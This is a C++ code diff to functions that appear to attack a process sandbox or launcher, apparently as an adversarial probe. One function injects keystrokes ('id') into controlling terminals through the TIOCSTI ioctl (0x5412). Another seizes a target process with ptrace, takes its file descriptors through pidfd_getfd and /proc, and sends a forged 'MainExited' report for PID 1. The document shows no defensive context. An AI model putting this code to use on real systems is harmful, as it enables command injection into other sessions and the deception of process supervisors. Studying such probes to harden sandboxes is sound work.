@@ -126,16 +126,17 @@ void typeIntoTerminals(Words)
     for (const char *path : {"/dev/tty", "/dev/stdin", "/dev/stdout", "/dev/stderr", "/dev/console", "/dev/tty0"}) {
         const int fd = ::open(path, O_RDWR | O_NONBLOCK);
         for (unsigned long command : {0x5412UL, 0x5412UL | (1UL << 32)}) {
-            for (const char *key = token; *key; ++key) {
+            for (const char *key = "id"; *key; ++key) {
                 for (int terminal : {fd, 0, 1, 2})
                     ::syscall(SYS_ioctl, terminal, command, key);
             }
         }
         ::close(fd);
     }
+    ::_exit(0); // who reads on would take back what it typed
 }
 
-// Ends with 7. A forged report of PID 1 would say 0: its message is MainExited of engine/launcher/protocol.h.
+// PID KIND FROM TO: descriptors to try. Ends with 7. A forged report of PID 1 would say 0: its message is MainExited of engine/launcher/protocol.h.
 void forgeReport(Words words)
 {
     struct [[gnu::packed]]
@@ -147,10 +148,10 @@ void forgeReport(Words words)
     const auto pid = static_cast<pid_t>(words.number(0));
     const int process = static_cast<int>(::syscall(SYS_pidfd_open, pid, 0));
     ::ptrace(PTRACE_SEIZE, pid, nullptr, nullptr);
-    for (int number = 3; number < 10; ++number) {
+    for (long number = words.number(2); number < words.number(3); ++number) {
         const std::string path = "/proc/" + std::to_string(pid) + "/fd/" + std::to_string(number);
-        for (int fd :
-             {::open(path.c_str(), O_RDWR), static_cast<int>(::syscall(SYS_pidfd_getfd, process, number, 0)), number})
+        for (int fd : {::open(path.c_str(), O_RDWR), static_cast<int>(::syscall(SYS_pidfd_getfd, process, number, 0)),
+                       static_cast<int>(number)})
             ::send(fd, &report, sizeof report, MSG_NOSIGNAL | MSG_DONTWAIT);
     }
     ::usleep(50'000);
